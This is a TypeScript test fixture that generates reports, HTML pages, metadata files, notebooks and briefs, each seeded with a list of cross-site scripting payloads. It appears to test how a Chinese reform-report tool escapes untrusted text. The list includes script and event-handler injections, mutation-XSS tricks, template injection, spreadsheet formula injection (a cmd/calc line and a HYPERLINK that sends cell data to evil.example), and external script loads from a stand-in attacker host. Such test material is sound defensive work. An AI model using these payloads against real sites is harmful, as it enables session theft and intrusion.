import {mkdirSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import type {Brief} from "../../src/model/brief.ts";
import {fileName} from "./hostileOthers.ts";

/** What every payload does when it runs. */
const act = "window.__xss=1";

/** What somebody could write wherever the site shows words of others; each element that they would make is marked. */
export const payloads: readonly string[] = [
  `<script data-xss>${act}</script>`,
  `"><script data-xss src=//evil.example/x.js></script>`,
  `<img data-xss src=x onerror=${act}>`,
  `"><img data-xss src=x onerror=${act}>`,
  `'><img data-xss src=x onerror='${act}'>`,
  `\`><img data-xss src=x onerror=${act}>`,
  `<svg data-xss onload=${act}>`,
  `<svg data-xss><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg data-xss><a xlink:href="javascript:${act}"><text x=9 y=9>x</text></a></svg>`,
  `<svg data-xss><foreignObject><iframe data-xss src=//evil.example></iframe></foreignObject></svg>`,
  `<iframe data-xss srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe data-xss src="javascript:parent.__xss=1"></iframe>`,
  `<object data-xss data="data:text/html,<script>${act}</script>"></object>`,
  `<embed data-xss src="//evil.example/x.swf">`,
  `<base data-xss href="//evil.example/">`,
  `<link data-xss rel=stylesheet href=//evil.example/x.css>`,
  `<meta data-xss http-equiv=refresh content="0;url=//evil.example">`,
  `<form data-xss action=//evil.example><button autofocus onfocus=${act}>x</button></form>`,
  `<details data-xss open ontoggle=${act}>x</details>`,
  `<video data-xss><source onerror=${act}></video>`,
  `<body data-xss onload=${act}>`,
  `<input data-xss autofocus onfocus=${act}>`,
  `<a data-xss href="javascript:${act}">x</a>`,
  `javascript:${act}`,
  `data:text/html,<script data-xss>${act}</script>`,
  `" autofocus tabindex=0 onfocus="${act}" data-xss="`,
  `' onmouseover='${act}' data-xss='`,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `</script><script data-xss>${act}</script>`,
  `</textarea><img data-xss src=x onerror=${act}>`,
  `</title></style><img data-xss src=x onerror=${act}>`,
  `<!--<img data-xss src="--><img data-xss src=x onerror=${act}>">`,
  `]]><img data-xss src=x onerror=${act}><![CDATA[`,
  `\u2028${act}\u2029//`,
  `\u202e<gmi data-xss src=x onerror=${act}>\u2066`,
  `<noscript><p title="</noscript><img data-xss src=x onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img data-xss title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<style>@import '//evil.example/x.css';</style data-xss>`,
  `[x](javascript:${act})`,
  `![x](//evil.example/x.png "x")`,
  `&lt;img data-xss src=x onerror=${act}&gt;`,
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `<template data-xss><script>${act}</script></template>`,
  `%3Cimg%20data-xss%20src=x%20onerror=${act}%3E`,
  `\\u003cimg data-xss src=x onerror=${act}\\u003e`
];

/** Prose enough that a text is Chinese in spite of a payload in it: of others no figures are read. */
const prose = (payload: string): string =>
  "各级各部门把改革任务逐项落到责任单位，按季度通报进展，年底组织评估，群众办事比过去方便。".repeat(
    1 + Math.ceil(payload.length / 3)
  );

/** Text in which a payload stands in every place that is read as something: title, heading, figure, honour, reform, lead, table. */
const reportOf = (payload: string, year: number): string =>
  [
    `赣州市${year}年全面深化改革工作总结${payload}`,
    `来源：赣州市${payload}　作者：改革办${payload}`,
    "",
    `一、主要做法${payload}`,
    `${year}年，赣州市召开市委深改委会议4次，审议“${payload}”文件12个。由${payload}牵头，市发展改革委负责${payload}任务3项。`,
    `推行“${payload}”改革，实施“一件事${payload}”改革，建立${payload}机制。`,
    "二、主要成效",
    `${payload}工程建设项目审批时限压减50%，新增经营主体2.3万户${payload}，城镇新增就业${year % 10}.1万人。`,
    `获评“全国${payload}示范城市”，获国务院${payload}督查激励1次。${year + 1}年力争地区生产总值增长6%${payload}。`,
    prose(payload),
    ""
  ].join("\n");

const escaped = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

/** The same with a table, as a page that has escaped what it was told. */
const pageOf = (payload: string, year: number): string => {
  const words = escaped(payload);
  const row = (place: string, n: number): string => `<tr><td>${place}</td><td>${n}</td><td>${words}</td></tr>`;
  return `<html><head><meta charset="utf-8"><title>永州市${year}年改革工作总结${words}</title></head><body>
<h1>永州市${year}年全面深化改革工作总结${words}</h1><p>${year}年，永州市召开市委深改委会议6次，审议改革文件12个。</p>
<h2>${words}</h2><p>工程建设项目审批时限压减${40 + (year % 10)}%，新增经营主体1.3万户。${prose(payload)}</p>
<table><caption>${words}</caption><tr><th>县区${words}</th><th>新增就业（人）${words}</th><th>备注</th></tr>
${row(`冷水滩区${words}`, 1200)}${row("零陵区", 1300)}${row(`祁阳市${words}`, 1400)}</table></body></html>`;
};

/** What stands beside a report. Its address is one of the web: what else it could be is refused. */
const sidecarOf = (payload: string): string =>
  [
    ...["title", "source", "author", "licence"].map((field) => `${field}: ${JSON.stringify(payload)}`),
    `address: ${JSON.stringify(`https://example.org/${encodeURIComponent(payload)}?${payload}`)}`
  ].join("\n");

/** Writes reports that bear these payloads, a text and a page each, with what is stated beside them. */
export const hostileReports =
  (chosen: readonly string[]) =>
  (folder: string): void => {
    mkdirSync(folder, {recursive: true});
    chosen.forEach((payload, index) => {
      const year = 1980 + index;
      const name = fileName(payload);
      writeFileSync(join(folder, `${index} ${name}.txt`), reportOf(payload, year));
      writeFileSync(join(folder, `${index} ${name}.txt.meta.yml`), sidecarOf(payload));
      writeFileSync(join(folder, `${index}.html`), pageOf(payload, year));
    });
  };

/** A notebook whose front matter and results bear a payload. Its prose and cells are its author's own, elements and all. */
export const hostileNotebook = (payload: string): string => `---
title: ${JSON.stringify(payload)}
question: ${JSON.stringify(payload)}
---

Here is \${${JSON.stringify(payload).replaceAll("<", "\\u003c").replaceAll("}", "\\u007d")}}.

\`\`\`sql
SELECT title, path FROM reports
\`\`\`

\`\`\`js
display(${JSON.stringify(payload).replaceAll("<", "\\u003c")});
\`\`\`
`;

/** A brief whose own words, and those of what stands in it, are a payload. */
export const hostileBrief = (payload: string): Brief => ({
  lang: "zh",
  template: "two-page",
  title: payload,
  summary: payload,
  places: ["360700", "431100"],
  items: [
    {kind: "note", title: payload, text: payload},
    {kind: "figures", title: payload, note: payload, indicators: []},
    {kind: "promises", title: payload, note: payload, targets: []},
    {
      kind: "chart",
      title: payload,
      note: payload,
      page: "honours",
      figure: payload,
      ask: {places: payload, id: payload}
    },
    {kind: "chart", title: payload, note: payload, page: "compare", figure: "memo", ask: {places: "360700,431100"}}
  ]
});
